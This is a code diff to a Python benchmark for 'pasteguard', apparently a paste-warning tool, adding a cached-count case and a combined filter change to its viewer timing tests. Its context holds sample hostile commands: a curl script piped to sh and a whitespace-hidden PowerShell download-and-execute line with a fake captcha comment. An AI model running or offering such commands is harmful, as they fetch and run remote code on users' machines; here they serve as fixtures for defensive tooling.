@@ -43,6 +43,7 @@ SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install-{n}.sh | sh"
 MALICIOUS = (
     'powershell -w h -c "iwr https://x.example/a.ps1 | iex"' + " " * 60 + "# I am not a robot"
 )
+KEPT_CASE = "+ level = malicious, the same search"
 COUNTING = "Counting…"  # the viewer's count label until the count comes back
 VK_LCONTROL, VK_V = 0xA2, 0x56  # left Ctrl as a low-level hook reports it; V
 
@@ -261,12 +262,28 @@ def _viewer(folder: Path) -> tuple[list[list[object]], list[str]]:
         ("+ target = terminal", lambda: filters.select(filters.target, "terminal")),
         ("last 7 days, any level/kind/target", lambda: _set(filters, period=7.0)),
         ("search a common word (`powershell`)", lambda: _set(filters, text="powershell")),
+        (KEPT_CASE, lambda: filters.level.setCurrentIndex(1)),
+        ("+ kind = paste warned, target = terminal", lambda: _narrow(filters)),
         ("search a rare string (`ID: 4242 `)", lambda: _set(filters, text="ID: 4242 ")),
         ("search a string found nowhere", lambda: _set(filters, text="no-such-text-anywhere")),
         ("back to everything", lambda: _set(filters)),
     ]
+    kept: list[int] = []
+    window.stats.kept.connect(kept.append)
     worst_table = worst_all = 0.0
     for name, change in cases:
+        if name == KEPT_CASE:  # as a person looks at the chart: its counts are kept meanwhile
+            begin_keep = time.perf_counter()
+            _pump_until(lambda: window.generation in kept, timeout=120)
+            rows.append(
+                [
+                    "… then its matches per day counted again in the background and kept "
+                    "(the viewer is idle)",
+                    _ms(time.perf_counter() - begin_keep),
+                    "",
+                    "n/a",
+                ]
+            )
         start = time.perf_counter()
         change()  # the table is refilled at once; the count and chart come from their thread
         window.table.viewport().repaint()
@@ -327,7 +344,9 @@ def _viewer(folder: Path) -> tuple[list[list[object]], list[str]]:
     notes = [
         f"A store of {total:,} events over the year up to now (the event-store benchmark's "
         f"fill), opened as `pasteguard viewer` opens it; building it took "
-        f"{opened - begin:.1f} s and is not counted. Offscreen Qt platform, window 1180×760.",
+        f"{opened - begin:.1f} s and is not counted"
+        + (f" (built earlier, reused from ${REUSE_ENV})" if os.environ.get(REUSE_ENV) else "")
+        + ". Offscreen Qt platform, window 1180×760.",
         "A filter refills the table with its first page at once; the count and the chart (bars "
         "that fit the filter's range: weeks for all time) are read on the viewer's stats "
         "thread and drawn when they come back, so they never delay the table. A person waits "
@@ -340,10 +359,26 @@ def _viewer(folder: Path) -> tuple[list[list[object]], list[str]]:
         "time, newest first, each part checked exactly; the bars counted so far are drawn "
         "after 30 ms and then every 250 ms, the rest hatched and the title saying it is "
         "still counting, until the complete chart replaces them (the row starting with … "
-        "times the first such drawing). Typing waits 300 ms first, which is not counted.",
+        "times the first such drawing). Once the chart is complete, the viewer counts the word's "
+        "matches per day once more in the background and keeps them in memory, so the same "
+        "search with another level, kind, target or period is charted from them (the days "
+        "that lost events since are counted again, the newest events and the hours a bar "
+        "shares with a day are read directly); the benchmark waits for that, as a person "
+        "looking at the chart would, before the next filter. Typing waits 300 ms first, "
+        "which is not counted.",
         f"Worst filter: table {_ms(worst_table)}, with count and chart {_ms(worst_all)}.",
     ]
     return rows, notes
+
+
+def _narrow(filters: Any) -> None:
+    """Level back to any, kind paste warned and target terminal: one filter change."""
+    filters.blockSignals(True)
+    filters.level.setCurrentIndex(0)
+    filters.select(filters.kind, "paste_warned")
+    filters.select(filters.target, "terminal")
+    filters.blockSignals(False)
+    filters.changed.emit()
 
 
 def _set(filters: Any, period: float | None = None, text: str = "") -> None:
